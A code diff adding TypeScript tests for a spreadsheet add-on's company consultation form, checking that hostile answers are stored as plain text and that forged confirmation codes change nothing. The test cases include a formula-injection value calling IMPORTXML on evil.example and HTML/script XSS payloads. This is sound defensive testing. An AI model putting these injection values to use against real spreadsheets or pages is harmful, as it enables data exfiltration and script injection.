@@ -188,3 +188,54 @@ describe("hostile edits to the pamphlet template", () => {
     recordCorpusCase('templates', name);
   });
 });
+
+// ---------------------------------------------------------------- 企業相談 (issue 17): what a company or an agency types
+
+import { consultWorld, intakeAnswers, statusAnswersFromLink, storedForms } from '../support/consultations';
+
+interface CompanyCase { name: string; company: string; details?: string; municipality?: string }
+const COMPANY_CASES: CompanyCase[] = [
+  { name: '数式に見える会社名と自由記述', company: '=IMPORTXML("https://evil.example","//a")', details: '+1-2 @営業部' },
+  { name: 'HTML の会社名', company: '<img src=x onerror=alert(1)>', details: '</script><script>alert(1)</script>' },
+  { name: '絵文字・RTL・制御文字', company: '🌸\u202Eさくら\u202C\u0007商事', municipality: '\u3000千代田区\u3000' },
+  { name: 'セルの上限を超える自由記述', company: '長文商事', details: 'あ'.repeat(50_001) },
+];
+
+describe('hostile company answers (企業相談)', () => {
+  test.each(COMPANY_CASES.map((c) => [c.name, c] as const))('%s', (name, c) => {
+    const emu = consultWorld({ names: agencyNamesOf(emu0()).slice(0, 4) });
+    const formulas = formulaCells(emu);
+    const r = emu.forms.submit(storedForms(emu).intake.formId, intakeAnswers({ company: c.company, topics: ['見学'], details: c.details, municipality: c.municipality }));
+    expect(r.executions.every((x) => x.outcome === 'completed')).toBe(true);
+    const [row] = sheetRecords(emu, '企業相談');
+    // Filed as text, never as a formula; a text too long for a cell is cut to the cell's limit, not refused.
+    expect(String(row!['会社名']).replace(/^'/, '')).toBe(c.company.trim());
+    expect(String(row!['自由記述']).length).toBeLessThanOrEqual(50_000);
+    expect(formulaCells(emu)).toEqual(formulas);
+    // The sidebar's list carries it as data (rendered as text by the sidebar's dom.ts).
+    const list = ok(emu.run<RpcResult<{ consultations: Record<string, string>[] }>>('rpcListConsultations'));
+    expect(String(list.consultations[0]!.company).replace(/^'/, '')).toBe(c.company.trim());
+    recordCorpusCase('consultations', name);
+  });
+
+  test('a forged or mangled 確認コード changes nothing and is recorded once', () => {
+    const emu = consultWorld();
+    emu.forms.submit(storedForms(emu).intake.formId, intakeAnswers({ company: 'A社', topics: ['障害者雇用の検討'] }));
+    const assigned = ok(emu.run<RpcResult<{ statusLink: string }>>('rpcAssignConsultation', ['K-0001', 'AG-001']));
+    // (An empty code is refused by the form itself: the question is required.)
+    for (const token of ['=1+1', '*', '.*', 'K-0001', `${'x'.repeat(5000)}`]) {
+      const { formId, answers } = statusAnswersFromLink(emu, assigned.statusLink, '完了');
+      answers['確認コード'] = token;
+      emu.forms.submit(formId, answers);
+    }
+    expect(sheetRecords(emu, '企業相談')[0]!['状態']).toBe('担当決定');
+    expect(sheetRecords(emu, '取り込み記録').filter((r) => String(r['内容']).startsWith('status:K-0001:token'))).toHaveLength(5);
+    recordCorpusCase('consultations', '偽の確認コード');
+  });
+});
+
+function emu0() {
+  const emu = loadAddOn({ now: NOW });
+  prepare(emu, { forms: false });
+  return emu;
+}
